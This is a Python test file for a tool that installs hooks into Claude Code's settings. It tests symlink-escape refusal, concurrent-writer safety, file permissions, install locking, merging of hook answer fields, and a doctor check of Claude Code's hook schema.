        (project / ".mcp.json").symlink_to(outside / "created-by-relay.json")  # dangling
    else:
        (project / ".claude").symlink_to(outside)
    done = relay(env, "install", "claude", "--project", "--python-client", cwd=project)
    assert done.returncode == 1
    assert "relay writes nothing outside the project" in done.stderr
    assert victim.read_text() == '{"keep": true}\n'
    assert sorted(item.name for item in outside.iterdir()) == ["victim.json"]
    assert not (project / ".claude" / "settings.local.json").exists()


def test_a_project_link_to_nothing_inside_is_not_followed(
    env: dict[str, str], tmp_path: Path
) -> None:
    project = tmp_path / "cloned"
    (project / ".git").mkdir(parents=True)
    (project / ".mcp.json").symlink_to(project / "elsewhere.json")
    done = relay(env, "install", "claude", "--project", "--python-client", cwd=project)
    assert done.returncode == 1 and "which does not exist" in done.stderr
    assert not (project / "elsewhere.json").exists()


ANOTHER_WRITER = r"""
import json, os, sys

target = os.environ["OTHER_WRITER_TARGET"]
done = []


def other_writer(event, args):
    # Once, just as relay stages its new text of the target: another program (Claude Code
    # itself, for ~/.claude.json) replaces the file with a change of its own.
    if event != "open" or done or not isinstance(args[0], (str, bytes)):
        return
    name = os.path.basename(os.fsdecode(args[0]))
    if name.startswith("." + os.path.basename(target) + ".relay-"):
        done.append(True)
        with open(target, encoding="utf-8") as stream:
            value = json.load(stream)
        value["numStartups"] = value.get("numStartups", 0) + 1
        with open(target + ".other", "w", encoding="utf-8") as stream:
            json.dump(value, stream)
        os.replace(target + ".other", target)


sys.addaudithook(other_writer)
"""


def test_a_change_another_program_makes_meanwhile_is_not_lost(
    env: dict[str, str], tmp_path: Path
) -> None:
    claude_json = Path(env["HOME"]) / ".claude.json"
    claude_json.write_text('{"numStartups": 1}')
    hook = tmp_path / "sitecustomize"
    hook.mkdir()
    (hook / "sitecustomize.py").write_text(ANOTHER_WRITER)
    writer_env = {
        **env,
        "OTHER_WRITER_TARGET": str(claude_json),
        "PYTHONPATH": os.pathsep.join(filter(None, [str(hook), env.get("PYTHONPATH")])),
    }
    done = relay(writer_env, "install", "claude", "--python-client")
    assert done.returncode == 0, done.stderr
    value = json.loads(claude_json.read_text())
    assert value["numStartups"] == 2  # the other program's update
    assert value["mcpServers"]["relay"]["args"] == ["-m", "relay", "mcp"]  # and relay's
    undone = relay(writer_env, "uninstall", "claude")
    assert undone.returncode == 0, undone.stderr
    assert json.loads(claude_json.read_text()) == {"numStartups": 3}


def test_folders_relay_creates_are_private_whatever_the_umask(
    env: dict[str, str], relay_home: Path
) -> None:
    done = subprocess.run(
        [*RELAY, "install", "claude", "--python-client"],
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
        umask=0,
    )
    assert done.returncode == 0, done.stderr
    for folder in (relay_home / "state" / "bin", claude_file(env).parent):
        assert folder.stat().st_mode & 0o777 == 0o700, folder
    assert claude_file(env).stat().st_mode & 0o777 == 0o600


def test_entries_an_older_relay_wrote_without_a_record_still_come_out_cleanly(
    env: dict[str, str], relay_home: Path
) -> None:
    path = claude_file(env)
    path.parent.mkdir()
    path.write_text(ORIGINAL)
    first = relay(env, "install", "claude", "--python-client", "--no-mcp", "--events", "PreToolUse")
    assert first.returncode == 0, first.stderr
    shutil.rmtree(relay_home / "state" / "installed")  # as an older relay left things
    again = relay(env, "install", "claude", "--python-client", "--no-mcp")
    assert again.returncode == 0 and "3 added, 1 already there" in again.stdout
    assert relay(env, "uninstall", "claude").returncode == 0
    assert path.read_text() == ORIGINAL


# -- Claude Code's answer fields, as the hook entry renders them (issue 32) -----------------


def _answering(output: object) -> dict[str, object]:
    program = f"import sys; sys.stdin.read(); sys.stdout.write({json.dumps(output)!r})"
    return {"type": "command", "command": sys.executable, "args": ["-c", program]}


def _claude_answer(
    env: dict[str, str], relay_home: Path, event: str, outputs: list[object], payload: object
) -> subprocess.CompletedProcess[str]:
    (relay_home / "settings.json").write_text(
        json.dumps({"hooks": {event: [{"hooks": [_answering(output) for output in outputs]}]}})
    )
    return subprocess.run(
        [*RELAY, "hooks", "run", "--dialect", "claude", event],
        env=env,
        input=json.dumps(payload),
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


SKILL_CALL = {"tool_name": "Bash", "tool_input": {"command": "echo hi"}, "command_name": "x"}
SWITCH = {"from_model": "claude-sonnet-4-5", "to_model": "claude-opus-4-1", "source": "command"}


@pytest.mark.parametrize(
    ("event", "outputs", "payload", "expected"),
    [
        pytest.param(
            "PostToolUse",
            [
                {"hookSpecificOutput": {"classifierContext": "the user asked for it"}},
                {"hookSpecificOutput": {"classifierContext": "and confirmed it"}},
            ],
            {"tool_name": "Bash", "tool_input": {}, "tool_response": {}},
            {
                "hookSpecificOutput": {
                    "hookEventName": "PostToolUse",
                    "classifierContext": "the user asked for it\nand confirmed it",
                }
            },
            id="classifierContext-joined",
        ),
        pytest.param(
            "PostToolUse",
            [
                {"hookSpecificOutput": {"updatedToolOutput": {"stdout": "first"}}},
                {"hookSpecificOutput": {"updatedToolOutput": {"stdout": "REDACTED"}}},
            ],
            {"tool_name": "Bash", "tool_input": {}, "tool_response": {}},
            {
                "hookSpecificOutput": {
                    "hookEventName": "PostToolUse",
                    "updatedToolOutput": {"stdout": "REDACTED"},
                }
            },
            id="updatedToolOutput-last",
        ),
        pytest.param(
            "UserPromptExpansion",
            [
                {"decision": "block", "reason": "not this command"},
                {"hookSpecificOutput": {"suppressOriginalPrompt": True}},
            ],
            {"expansion_type": "slash_command", "command_name": "x", "prompt": "/x"},
            {
                "decision": "block",
                "reason": "not this command",
                "hookSpecificOutput": {
                    "hookEventName": "UserPromptExpansion",
                    "suppressOriginalPrompt": True,
                },
            },
            id="suppressOriginalPrompt-with-its-block",
        ),
        pytest.param(
            "UserPromptSubmit",
            [{"hookSpecificOutput": {"sessionTitle": "Fix the build"}}],
            {"prompt": "fix it"},
            {
                "hookSpecificOutput": {
                    "hookEventName": "UserPromptSubmit",
                    "sessionTitle": "Fix the build",
                }
            },
            id="sessionTitle",
        ),
        pytest.param(
            "SessionStart",
            [
                {"hookSpecificOutput": {"watchPaths": ["/a", "/b"], "reloadSkills": False}},
                {"hookSpecificOutput": {"watchPaths": ["/b", "/c"], "reloadSkills": True}},
                {"hookSpecificOutput": {"reloadSkills": False}},
            ],
            {"source": "startup"},
            {
                "hookSpecificOutput": {
                    "hookEventName": "SessionStart",
                    "watchPaths": ["/a", "/b", "/c"],
                    "reloadSkills": True,
                }
            },
            id="watchPaths-union-reloadSkills-any",
        ),
        pytest.param(
            "PermissionDenied",
            [{"hookSpecificOutput": {"retry": True}}, {"hookSpecificOutput": {"retry": False}}],
            {"tool_name": "Bash", "tool_input": {}},
            {"hookSpecificOutput": {"hookEventName": "PermissionDenied", "retry": True}},
            id="retry-any",
        ),
        pytest.param(
            "Stop",
            [{"terminalSequence": "\x1b]9;done\x07"}, {"terminalSequence": "\x07"}],
            {"stop_hook_active": False},
            {"terminalSequence": "\x1b]9;done\x07\x07"},
            id="terminalSequence",
        ),
        pytest.param(
            "PreModelSwitch",
            [{"decision": "deny", "reason": "stay on sonnet"}],
            SWITCH,
            {
                "hookSpecificOutput": {
                    "hookEventName": "PreModelSwitch",
                    "permissionDecision": "deny",
                    "permissionDecisionReason": "stay on sonnet",
                }
            },
            id="PreModelSwitch-deny",
        ),
        pytest.param(
            "PreModelSwitch",
            [{"decision": "defer", "reason": "ask first"}],
            SWITCH,
            {
                "hookSpecificOutput": {
                    "hookEventName": "PreModelSwitch",
                    "permissionDecision": "ask",
                    "permissionDecisionReason": "ask first",
                }
            },
            id="PreModelSwitch-has-no-defer",
        ),
        pytest.param(
            "PreSkillShellCommand",
            [
                {
                    "hookSpecificOutput": {
                        "permissionDecision": "deny",
                        "permissionDecisionReason": "no",
                    }
                }
            ],
            SKILL_CALL,
            {
                "hookSpecificOutput": {
                    "hookEventName": "PreSkillShellCommand",
                    "permissionDecision": "deny",
                    "permissionDecisionReason": "no",
                }
            },
            id="PreSkillShellCommand-deny",
        ),
        pytest.param(
            "PostModelSwitch",
            [{"inject": "now on opus"}],
            SWITCH,
            {
                "hookSpecificOutput": {
                    "hookEventName": "PostModelSwitch",
                    "additionalContext": "now on opus",
                }
            },
            id="PostModelSwitch-context",
        ),
    ],
)
def test_claude_gets_each_answer_field_as_it_reads_it(  # noqa: PLR0917 (pytest parameters)
    env: dict[str, str],
    relay_home: Path,
    event: str,
    outputs: list[object],
    payload: object,
    expected: dict[str, object],
) -> None:
    done = _claude_answer(env, relay_home, event, outputs, payload)
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout) == expected


def test_a_claude_field_of_the_wrong_type_is_an_error_that_names_it(
    env: dict[str, str], relay_home: Path
) -> None:
    """Claude Code rejects a whole answer over one field of the wrong type: relay never
    passes one on (the hook's answer is a protocol error naming $.hookSpecificOutput.watchPaths,
    in relay's log); the other hooks' answers still count."""
    done = _claude_answer(
        env,
        relay_home,
        "SessionStart",
        [
            {"hookSpecificOutput": {"watchPaths": "/not/a/list"}},
            {"hookSpecificOutput": {"sessionTitle": "kept"}},
        ],
        {"source": "startup"},
    )
    assert done.returncode == 0, done.stderr
    answer = json.loads(done.stdout)
    assert answer["hookSpecificOutput"] == {"hookEventName": "SessionStart", "sessionTitle": "kept"}


def _fake_claude_code(env: dict[str, str], code: str) -> Path:
    """The fake Claude Code of `env` with `code` as its cli.js."""
    cli = Path(shutil.which("claude", path=env["PATH"]) or "").resolve().parent / "cli.js"
    cli.write_text(code)
    return cli


def _schema_code(events: list[str], top: list[str], specific: dict[str, list[str]]) -> str:
    """Code in the shape of Claude Code's own: its event list and its zod schema of an answer."""

    def optional(fields: list[str]) -> str:
        return ",".join(f"{field}:z.string().optional()" for field in fields)

    union = ",".join(
        f"z.object({{hookEventName:z.literal({json.dumps(event)}),{optional(fields)}}})"
        for event, fields in specific.items()
    )
    keys = optional(top)
    return (
        f"var kc={json.dumps(events, separators=(',', ':'))};"
        'var d=z.enum(["a","b"]);'  # unrelated code around it
        f"var NM=p(()=>z.object({{{keys},hookSpecificOutput:z.union([{union}]).optional()}}));"
        "function f(e){let{systemMessage:n,metrics:o,hookSpecificOutput:g}=e;return n}"
    )


def _doctor_claude(env: dict[str, str], cwd: Path) -> list[dict[str, str]]:
    done = relay(env, "doctor", "--json", "--no-measure", cwd=cwd)
    findings: list[dict[str, str]] = json.loads(done.stdout)
    return [f for f in findings if f["topic"] == "claude"]


def test_doctor_fails_on_an_event_or_answer_field_of_the_installed_claude_code_relay_does_not_know(
    env: dict[str, str], tmp_path: Path, relay_home: Path
) -> None:
    from relay.hosts import claude

    events = [*claude.EVENTS]
    specific = {event: sorted(fields) for event, fields in claude.SPECIFIC_FIELDS.items()}
    top = sorted(claude.OUTPUT_FIELDS - {"hookSpecificOutput"})
    cli = _fake_claude_code(env, _schema_code(events, top, specific))
    known = _doctor_claude(env, tmp_path)
    assert any(
        f["level"] == "ok" and f"relay knows the {len(events)} hook events" in f["text"]
        for f in known
    ), known
    newer = {**specific, "PostToolUse": [*specific["PostToolUse"], "toolOutputNote"]}
    newer["PreFlight"] = ["permissionDecision"]
    cli.write_text(_schema_code([*events, "PreFlight"], [*top, "bellSound"], newer))
    failing = [f for f in _doctor_claude(env, tmp_path) if f["level"] == "fail"]
    assert len(failing) == 1, failing
    text = failing[0]["text"]
    assert (
        "does not know: event PreFlight, field bellSound, field PostToolUse.toolOutputNote" in text
    )
    assert "field PreFlight.permissionDecision" in text
    assert "metrics" not in text  # a destructuring, not the schema
    assert relay(env, "doctor", "--no-measure", cwd=tmp_path).returncode == 1
    cache = json.loads((cache_dir(env) / "host-code.json").read_text())
    assert [key.split("|")[0] for key in cache] == [str(cli)]  # one entry per file, kept current


def test_doctor_warns_and_goes_on_when_claude_codes_code_cannot_be_read(
    env: dict[str, str], tmp_path: Path
) -> None:
    cli = _fake_claude_code(env, '\x00\x01 not JavaScript [ { ( "unterminated')
    findings = _doctor_claude(env, tmp_path)
    warned = [f["text"] for f in findings if f["level"] == "warn" and "cannot tell" in f["text"]]
    assert warned and "no list of hook events found" in warned[0], findings
    cli.write_text('var kc=["SessionStart","PreToolUse","Stop"];hookSpecificOutput:{{{{(((')
    warned = [f["text"] for f in _doctor_claude(env, tmp_path) if "cannot tell" in f["text"]]
    assert warned and "no schema of a hook's answer" in warned[0]
    cli.write_text(
        'var kc=["SessionStart","PreToolUse","Stop"];'
        + "{a:b(" * 3000
        + "hookSpecificOutput:{{{{" * 200_000
    )
    warned = [f["text"] for f in _doctor_claude(env, tmp_path) if "cannot tell" in f["text"]]
    assert warned and "gave up reading" in warned[0]  # a bounded read, not a hang
    cli.unlink()
    cli.mkdir()  # not a file at all
    done = relay(env, "doctor", "--json", "--no-measure", cwd=tmp_path)
    assert "Traceback" not in done.stderr and json.loads(done.stdout)


def test_an_install_waits_for_the_one_holding_the_lock_and_says_so(
    env: dict[str, str], relay_home: Path
) -> None:
    """Two of relay's own writers never interleave: while another holds relay's install
    lock, install writes nothing and says what it waits for; it goes on once released."""
    locks = relay_home / "state" / "locks"
    locks.mkdir(parents=True, mode=0o700)
    (relay_home / "state").chmod(0o700)
    held = os.open(locks / "install.lock", os.O_RDWR | os.O_CREAT, 0o600)
    fcntl.flock(held, fcntl.LOCK_EX)
    waiting = subprocess.Popen(
        [*RELAY, "install", "claude", "--python-client"],
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        assert waiting.stderr is not None
        said = waiting.stderr.readline()
        assert "waiting for another relay install or uninstall to finish" in said, said
        assert str(locks / "install.lock") in said
        assert not claude_file(env).exists() and waiting.poll() is None
    finally:
        os.close(held)  # released: the install goes on
        _, rest = waiting.communicate(timeout=120)
    assert waiting.returncode == 0, rest
    stop = json.loads(claude_file(env).read_text())["hooks"]["Stop"]
    commands = [hook["command"] for group in stop for hook in group["hooks"]]
    assert any(command.endswith("relay-hook.py --dialect claude Stop") for command in commands)
